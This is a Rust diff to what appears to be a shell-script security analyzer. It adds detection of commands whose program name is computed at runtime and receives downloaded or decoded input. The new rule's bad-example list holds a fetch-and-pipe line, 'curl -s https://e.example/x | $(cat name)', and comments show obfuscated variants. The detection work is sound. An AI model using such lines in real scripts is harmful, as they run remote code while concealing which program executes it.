@@ -6,7 +6,7 @@ use super::facts::{Power, Reaching, power};
 use super::{Category, Facts, Findings, Rule};
 use crate::effect::{Effect, Object, Props, Verb};
 use crate::finding::{Confidence, Severity};
-use crate::value::{Channel, Piece, Value};
+use crate::value::{Channel, Piece, Value, Why};
 
 /// Verbs that run text or a file.
 pub(super) const SINKS: &[Verb] = &[Verb::Evaluate, Verb::Execute, Verb::Spawn, Verb::Schedule];
@@ -76,7 +76,7 @@ pub(super) const RULES: &[Rule] = &[
                       text, and what it is given cannot be told either. Write the program's name.",
         remediation: "Write out the program that is meant.",
         good: &["$EDITOR notes.txt", "\"$@\"", "$(which python3) -V"],
-        bad: &[],
+        bad: &["curl -s https://e.example/x | $(cat name)"],
         check: command_from_elsewhere,
     },
 ];
@@ -184,7 +184,8 @@ fn decoded_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) 
     }
     for sink in facts.with(SINKS) {
         for (from, way) in facts.sources_with(sink, &[Verb::Decode]) {
-            if !runs_it(sink, way) {
+            let alias = facts.alias(rule.id, from);
+            if !runs_it(sink, way) || alias.is_some_and(|a| a.is_silent()) {
                 continue;
             }
             let mut d = rule
@@ -204,7 +205,7 @@ fn decoded_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) 
             if is_mild(sink) {
                 d = d.severity(Severity::Medium);
             }
-            if let Some(a) = facts.alias(rule.id, from) {
+            if let Some(a) = alias {
                 d = d.id(a.id).remediation(format!("Decode to a file (`{}`), read it, then run it.", a.safer));
             }
             out.add(d);
@@ -215,6 +216,25 @@ fn decoded_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) 
 fn command_from_elsewhere(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     for p in &facts.graph.processes {
         let Some(word) = p.argv.first().filter(|w| !w.is_known()) else { continue };
+        // What is downloaded or decoded goes into a program whose name has yet to be worked out: `curl u | $(rev <<< hs)`.
+        let fed = p.stdin.as_ref().map(|v| v.taint()).unwrap_or_default();
+        let from = fed.0.iter().filter_map(|(o, _)| facts.graph.effect(*o));
+        for source in
+            from.filter(|e| matches!(e.verb, Verb::Fetch | Verb::Decode | Verb::Connect) && is_foreign(facts, e))
+        {
+            // A variable of the surroundings (`| $PAGER`) is how people name a program of their choice.
+            let chosen = word.pieces.iter().all(
+                |piece| matches!(piece, Piece::Unknown(u) if matches!(u.why, Why::Environment(_) | Why::Parameter(_))),
+            );
+            out.add(
+                rule.at(facts, p.place)
+                    .severity(if chosen { Severity::Medium } else { rule.severity })
+                    .title(format!("Program is not named: {} | {}", facts.name(source), word.show()))
+                    .also(source)
+                    .evidence("command_pattern", "names no program", word.place())
+                    .evidence("flow", "gives it what to run", facts.command_place(source)),
+            );
+        }
         for (origin, _) in &word.taint().0 {
             let Some(source) = facts.graph.effect(*origin) else { continue };
             if !matches!(source.verb, Verb::Fetch | Verb::Decode) || !is_foreign(facts, source) {
